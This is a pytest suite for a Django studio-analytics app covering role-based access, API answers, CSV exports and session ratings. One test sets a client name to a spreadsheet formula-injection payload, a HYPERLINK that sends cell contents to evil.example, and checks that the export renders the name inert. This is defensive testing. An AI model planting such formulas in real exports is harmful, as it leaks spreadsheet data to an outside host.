"""Who sees which figures (a trainer only their own), the API's answers, and the CSV export of tables."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import pytest
from django.test import Client

from domain.analytics import services
from domain.analytics.models import AtRiskFlag, SessionRating, TrainerMetric
from domain.scheduling.models import Appointment
from tests.conftest import host_of
from tests.factories.analytics import at, membership
from tests.factories.clients import ClientTrainerFactory
from tests.factories.core import ClientFactory, ManagerFactory, TrainerFactory
from tests.factories.scheduling import AppointmentFactory, AvailabilityFactory
from tests.querycount import queries_of_get

DAY = date(2026, 6, 9)


@pytest.fixture
def figures(tenant, clock):
    clock.move_to(at(date(2026, 6, 10), 8))
    mine, other, manager = TrainerFactory(first_name="Mia"), TrainerFactory(first_name="Olly"), ManagerFactory()
    for trainer in (mine, other):
        AvailabilityFactory(trainer=trainer, weekday=DAY.weekday())
        ClientTrainerFactory(client=ClientFactory(), trainer=trainer, is_primary=True)
    membership(ClientFactory(), started=date(2026, 6, 1), price=5000)
    services.day_compute(day=DAY)
    return {"mine": mine, "other": other, "manager": manager}


def attended(person, trainer) -> Appointment:
    """A 1:1 session on DAY 09:00 the client attended."""
    return AppointmentFactory(
        client=person, trainer=trainer, starts_at=at(DAY, 9), ends_at=at(DAY, 10), status=Appointment.Status.COMPLETED
    )


def signed_in(studio, person) -> Client:
    client = Client(HTTP_HOST=host_of(studio))
    client.force_login(person)
    return client


def test_a_trainer_sees_only_their_own_figures(studio, figures, api_client):
    api = api_client(figures["mine"])
    query = "start=2026-06-09&end=2026-06-09"

    own = api.get(f"/api/v1/analytics/trainers/{figures['mine'].pk}?{query}")
    assert own.status_code == 200
    assert own.json()["available_minutes"] == 480
    assert api.get(f"/api/v1/analytics/trainers/{figures['other'].pk}?{query}").status_code == 404
    assert [t["trainer_id"] for t in api.get(f"/api/v1/analytics/trainers?{query}").json()] == [figures["mine"].pk]
    refused = api.get(f"/api/v1/analytics/studio?{query}")
    assert refused.status_code == 403
    assert refused.json()["code"] == "forbidden"
    # the portal: the studio page sends them to their own; another trainer's page is not found
    page = signed_in(studio, figures["mine"])
    assert page.get("/analytics/")["Location"] == f"/analytics/trainers/{figures['mine'].pk}/"
    assert page.get(f"/analytics/trainers/{figures['other'].pk}/").status_code == 404
    assert page.get(f"/analytics/trainers/{figures['mine'].pk}/?{query}").status_code == 200


def test_clients_see_no_figures_and_no_inbox(figures, api_client):
    api = api_client(ClientFactory())
    assert api.get("/api/v1/analytics/attention").status_code == 403
    assert api.get(f"/api/v1/analytics/trainers/{figures['mine'].pk}").status_code == 403


def test_a_manager_sees_the_studio_with_the_previous_period(figures, api_client):
    answer = api_client(figures["manager"]).get("/api/v1/analytics/studio?start=2026-06-09&end=2026-06-09").json()
    assert answer["current"]["active_end"] == 1
    assert answer["current"]["mrr_amount"] == 5000
    assert answer["previous"]["start"] == "2026-06-08"
    assert answer["previous"]["days"] == 0
    bad = api_client(figures["manager"]).get("/api/v1/analytics/studio?start=2026-06-09&end=2026-06-01")
    assert (bad.status_code, bad.json()["code"]) == (400, "date_range_invalid")


def test_every_table_exports_as_csv(studio, figures):
    page = signed_in(studio, figures["manager"])
    html = page.get("/analytics/?start=2026-06-09&end=2026-06-09")
    assert html.status_code == 200
    assert "Clients with a membership" in html.content.decode()  # the definition next to the figure
    for name in ("days", "packages", "trainers", "cohorts", "ratings"):
        response = page.get(f"/analytics/?start=2026-06-09&end=2026-06-09&export={name}")
        assert response["Content-Type"].startswith("text/csv")
        assert f'filename="{name}.csv"' in response["Content-Disposition"]
    rows = list(
        csv.reader(io.StringIO(page.get("/analytics/?start=2026-06-09&end=2026-06-09&export=days").content.decode()))
    )
    assert rows[0][:3] == ["Day", "Active", "New"]
    assert rows[1][:2] == ["2026-06-09", "1"]
    trainers = list(
        csv.reader(
            io.StringIO(page.get("/analytics/?start=2026-06-09&end=2026-06-09&export=trainers").content.decode())
        )
    )
    assert sorted(row[0].split()[0] for row in trainers[1:]) == ["Mia", "Olly"]
    assert TrainerMetric.objects.filter(day=DAY).count() == 2


def test_ratings_are_validated(figures, api_client):
    api = api_client(ClientFactory())
    bad = api.post("/api/v1/analytics/ratings", {"score": 9, "appointment_id": 1}, content_type="application/json")
    assert (bad.status_code, bad.json()["code"]) == (400, "rating_invalid")
    missing = api.post(
        "/api/v1/analytics/ratings", {"score": 4, "appointment_id": 999999}, content_type="application/json"
    )
    assert (missing.status_code, missing.json()["code"]) == (404, "booking_not_rateable")
    assert api.post("/api/v1/analytics/nps", {"score": 9}, content_type="application/json").status_code == 201
    again = api.post("/api/v1/analytics/nps", {"score": 10}, content_type="application/json")
    assert (again.status_code, again.json()["code"]) == (409, "already_rated")


def test_a_client_rates_an_attended_session_once_from_the_portal(studio, figures):
    person = ClientFactory()
    session = attended(person, figures["mine"])
    page = signed_in(studio, person)
    listed = page.get("/me/ratings/").content.decode()
    assert 'name="kind" value="appointment"' in listed
    assert "recommend us" in listed

    page.post("/me/ratings/rate/", {"kind": "appointment", "id": session.pk, "score": "5"})
    page.post("/me/ratings/rate/", {"kind": "appointment", "id": session.pk, "score": "1"})

    assert list(SessionRating.objects.filter(client=person).values_list("score", "trainer_id")) == [
        (5, figures["mine"].pk)
    ]
    assert 'value="appointment"' not in page.get("/me/ratings/").content.decode()
    assert signed_in(studio, figures["mine"]).get("/me/ratings/").status_code == 404


def test_the_figures_cost_a_fixed_number_of_queries(studio, figures, api_client):
    api = api_client(figures["manager"])
    one_day = queries_of_get(api, "/api/v1/analytics/studio?start=2026-06-09&end=2026-06-09")
    for day in (DAY - timedelta(days=n) for n in range(1, 8)):
        services.day_compute(day=day)
    a_week = queries_of_get(api, "/api/v1/analytics/studio?start=2026-06-02&end=2026-06-09")
    assert one_day == a_week <= 12
    page = signed_in(studio, figures["manager"])
    assert queries_of_get(page, "/analytics/?start=2026-06-02&end=2026-06-09") <= 30


def test_a_trainer_page_lists_their_clients_at_risk_first_and_exports_them(studio, figures):
    calm, worried = ClientFactory(first_name="Ann"), ClientFactory(first_name="Zed")
    for person in (calm, worried):
        ClientTrainerFactory(client=person, trainer=figures["mine"])
    AtRiskFlag.objects.create(
        client=worried, reason="inactive", detail="No training or visit for 20 days.", set_on=DAY, set_at=at(DAY)
    )
    page = signed_in(studio, figures["mine"])
    url = f"/analytics/trainers/{figures['mine'].pk}/?start=2026-06-09&end=2026-06-09"

    exported = list(csv.reader(io.StringIO(page.get(url + "&export=clients").content.decode())))

    assert exported[0] == ["Client", "7 days", "30 days", "90 days", "Last active", "At risk"]
    assert exported[1][0].startswith("Zed")
    assert exported[1][-1] == "No training or visit"
    assert any(row[0].startswith("Ann") for row in exported[2:])
    assert (
        "Zed"
        not in signed_in(studio, figures["other"])
        .get(f"/analytics/trainers/{figures['other'].pk}/?start=2026-06-09&end=2026-06-09")
        .content.decode()
    )


def test_a_client_named_like_a_formula_is_exported_inert(studio, figures):
    # given a client who named themself so that a spreadsheet would run their name
    sly = ClientFactory(first_name='=HYPERLINK("https://evil.example/?"&A1', last_name="+1")
    ClientTrainerFactory(client=sly, trainer=figures["mine"])
    page = signed_in(studio, figures["mine"])
    url = f"/analytics/trainers/{figures['mine'].pk}/?start=2026-06-09&end=2026-06-09&export=clients"
    # when their trainer exports the client list
    rows = list(csv.reader(io.StringIO(page.get(url).content.decode())))
    # then the name is text in the spreadsheet, not a formula
    [name] = [row[0] for row in rows[1:] if "HYPERLINK" in row[0]]
    assert name.startswith("'=HYPERLINK")


def test_a_session_older_than_two_weeks_is_no_longer_rated(figures, clock, api_client):
    person = ClientFactory()
    old = attended(person, figures["mine"])
    clock.move_to(at(DAY + timedelta(days=15), 9))
    late = api_client(person).post(
        "/api/v1/analytics/ratings", {"score": 5, "appointment_id": old.pk}, content_type="application/json"
    )
    assert (late.status_code, late.json()["code"]) == (404, "booking_not_rateable")
    assert not SessionRating.objects.filter(client=person).exists()
